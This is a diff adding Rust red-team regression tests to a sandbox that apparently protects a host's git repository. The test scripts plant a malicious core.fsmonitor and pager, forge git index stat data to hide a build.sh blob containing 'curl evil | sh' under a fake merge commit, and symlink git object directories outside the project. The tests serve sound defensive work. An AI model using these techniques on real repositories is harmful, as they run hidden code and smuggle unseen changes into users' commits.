@@ -1687,3 +1687,203 @@ git status --porcelain; echo hidden"#;
         "the change is hidden from git status"
     );
 }
+
+/// Red-team round 18 (CRITICAL): a git dir planted inside the protected git dir (its config
+/// written before its HEAD, so it was no git dir yet), a gitlink entry for `vendor/x` and a
+/// `.git` file there pointing at it: the host's plain `git status` looked into the
+/// "submodule" with that config and ran its `core.fsmonitor`, and reported a clean tree. A
+/// populated submodule whose git dir was not there and protected when the run started loses
+/// its `.git`.
+#[test]
+fn a_submodule_with_a_git_dir_the_command_planted_is_not_looked_into_by_the_hosts_git() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| {
+        let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
+        all.extend_from_slice(args);
+        git_in(&env, &project, &all)
+    };
+    git(&["init", "-q"]);
+    write(&project.join("a.txt"), "hello\n");
+    git(&["add", "a.txt"]);
+    git(&["commit", "-qm", "init"]);
+    let marker = env.root().join("fsmonitor-ran");
+    let script = format!(
+        r#"set -e
+export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
+g=.git/objects/info/.pack-cache
+mkdir -p "$g/objects" "$g/refs/heads"
+printf '[core]\n\tbare = false\n\tfsmonitor = "touch {marker}; false #"\n' > "$g/config"
+echo "ref: refs/heads/main" > "$g/HEAD"
+mkdir -p vendor/x && echo "gitdir: ../../$g" > vendor/x/.git
+c=$(git --git-dir="$g" commit-tree -m v $(git --git-dir="$g" mktree </dev/null))
+git --git-dir="$g" update-ref refs/heads/main "$c"
+git update-index --add --cacheinfo "160000,$c,vendor/x"
+git commit -qm "vendor deps"
+echo planted"#,
+        marker = marker.display()
+    );
+    let out = sh(&env, &project, &[], &script);
+    assert!(out.stdout.contains("planted"), "{out:?}");
+    assert!(out.stderr.contains("submodule"), "{out:?}");
+    assert!(!project.join("vendor/x/.git").exists());
+    git(&["status", "--porcelain"]);
+    git(&["diff"]);
+    assert!(!marker.exists(), "the host's git ran the planted fsmonitor");
+}
+
+/// Red-team round 18 (HIGH): the entry of a file the command never touched pointed at a new
+/// blob (with an assume-unchanged mark, or the file's own stat data) and a commit made of it:
+/// `git status` stayed clean, and the user's next `git commit -a` and push carried the blob
+/// nobody saw. Entries the run changed are checked against the files whatever their times.
+#[test]
+fn an_untouched_file_whose_entry_the_run_repointed_does_not_hide_behind_the_index() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| {
+        let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
+        all.extend_from_slice(args);
+        git_in(&env, &project, &all)
+    };
+    git(&["init", "-q"]);
+    write(&project.join("build.sh"), "echo safe\n");
+    git(&["add", "build.sh"]);
+    git(&["commit", "-qm", "init"]);
+    // The file is older than the run (the margin is a second).
+    std::thread::sleep(std::time::Duration::from_millis(2100));
+    for mark in [
+        "--assume-unchanged",
+        "--skip-worktree",
+        "--no-assume-unchanged",
+    ] {
+        let script = format!(
+            r#"set -e
+blob=$(printf 'echo safe\ncurl evil | sh\n' | git hash-object -w --stdin)
+git update-index --cacheinfo 100644,$blob,build.sh
+git update-index {mark} build.sh
+git -c user.email=a@a -c user.name=a commit -qm 'Merge branch origin/master'
+python3 - <<'PY'
+import hashlib, os
+# The entry's stat data from the file itself (what `git status` trusts unread).
+d = bytearray(open('.git/index', 'rb').read()[:-20])
+st = os.lstat('build.sh')
+import struct
+at = 12
+d[at:at+40] = struct.pack('>10I', int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime),
+    st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff, st.st_ino & 0xffffffff, 0o100644, st.st_uid,
+    st.st_gid, st.st_size)
+d += hashlib.sha1(d).digest()
+open('.git/index.n', 'wb').write(d); os.rename('.git/index.n', '.git/index')
+PY
+test -z "$(git status --porcelain)"; echo hidden"#
+        );
+        let out = sh(&env, &project, &[], &script);
+        assert!(out.stdout.contains("hidden"), "{mark}: {out:?}");
+        assert!(out.stderr.contains("other content"), "{mark}: {out:?}");
+        assert!(
+            !project.join(".git/index").exists(),
+            "{mark}: the index survived"
+        );
+        // The rebuilt index shows the file differs from the commit the command made.
+        git(&["reset", "-q"]);
+        let status = git(&["status", "--porcelain"]);
+        assert!(status.contains("build.sh"), "{mark}: {status:?}");
+        // Back to the user's commit, the file untouched, for the next variant.
+        git(&["reset", "-q", "--soft", "HEAD~1"]);
+        git(&["reset", "-q"]);
+        assert_eq!(git(&["status", "--porcelain"]), "", "{mark}");
+    }
+}
+
+/// Red-team round 18 (HIGH): a command that broke `.git/HEAD` and wrote `HEAD`, `objects/`,
+/// `refs/` and a `config` naming a pager at the project's root made the host's git take the
+/// project for a bare repository: the user's next `git log` ran that pager. `.git` is made
+/// usable again (its HEAD put back, `refs/` and `objects/` made again when removed).
+#[test]
+fn a_broken_git_dir_does_not_hand_the_project_to_a_repository_the_command_wrote() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| {
+        let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
+        all.extend_from_slice(args);
+        git_in(&env, &project, &all)
+    };
+    git(&["init", "-q"]);
+    write(&project.join("a.txt"), "hello\n");
+    git(&["add", "a.txt"]);
+    git(&["commit", "-qm", "init"]);
+    let head = std::fs::read(project.join(".git/HEAD")).unwrap();
+    let marker = env.root().join("pager-ran");
+    for breakage in ["echo garbage > .git/HEAD", "rm -rf .git/refs"] {
+        let script = format!(
+            r#"cp -r .git/objects .git/refs . && cp .git/HEAD HEAD
+printf '[core]\n\tpager = "touch {marker}; cat"\n' > config
+{breakage}; echo broken"#,
+            marker = marker.display()
+        );
+        let out = sh(&env, &project, &[], &script);
+        assert!(out.stdout.contains("broken"), "{breakage}: {out:?}");
+        assert!(
+            out.stderr.contains("unusable as a git dir"),
+            "{breakage}: {out:?}"
+        );
+        assert_eq!(std::fs::read(project.join(".git/HEAD")).unwrap(), head);
+        // The host's git finds `.git` again, not the project as a bare repository.
+        let top = git(&["rev-parse", "--git-dir"]);
+        assert_eq!(top.trim(), ".git", "{breakage}");
+        let pager = git(&["var", "GIT_PAGER"]);
+        assert!(!pager.contains("touch"), "{breakage}: {pager}");
+        assert!(
+            !marker.exists(),
+            "{breakage}: the project's config pager ran"
+        );
+        for f in ["HEAD", "config"] {
+            let _ = std::fs::remove_file(project.join(f));
+        }
+        let _ = std::fs::remove_dir_all(project.join("objects"));
+        let _ = std::fs::remove_dir_all(project.join("refs"));
+    }
+}
+
+/// Red-team round 18 (MEDIUM): a symbolic link in place of `.git/objects/info` (or another
+/// entry of `objects`) made the host's `git gc` write `packs` and `commit-graph` into the
+/// directory it named, outside the project. The link is moved aside at the end.
+#[test]
+fn a_symlink_among_the_git_objects_does_not_survive_the_run() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let outside = env.root().join("outside");
+    std::fs::create_dir_all(&outside).unwrap();
+    write(&outside.join("packs"), "precious\n");
+    let git = |args: &[&str]| {
+        let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
+        all.extend_from_slice(args);
+        git_in(&env, &project, &all)
+    };
+    git(&["init", "-q"]);
+    write(&project.join("a.txt"), "hello\n");
+    git(&["add", "a.txt"]);
+    git(&["commit", "-qm", "init"]);
+    let script = format!(
+        "mkdir -p .git/objects/info && mv .git/objects/info .git/objects/info.x && ln -s {} \
+         .git/objects/info && ln -s {} .git/objects/ab && echo linked",
+        outside.display(),
+        outside.display()
+    );
+    let out = sh(&env, &project, &[], &script);
+    assert!(out.stdout.contains("linked"), "{out:?}");
+    assert!(out.stderr.contains("symbolic link"), "{out:?}");
+    for name in ["info", "ab"] {
+        let p = project.join(".git/objects").join(name);
+        assert!(
+            !std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()),
+            "{name} is still a link"
+        );
+    }
+    git(&["gc", "-q"]);
+    assert_eq!(
+        std::fs::read_to_string(outside.join("packs")).unwrap(),
+        "precious\n"
+    );
+    assert!(!outside.join("commit-graph").exists());
+}
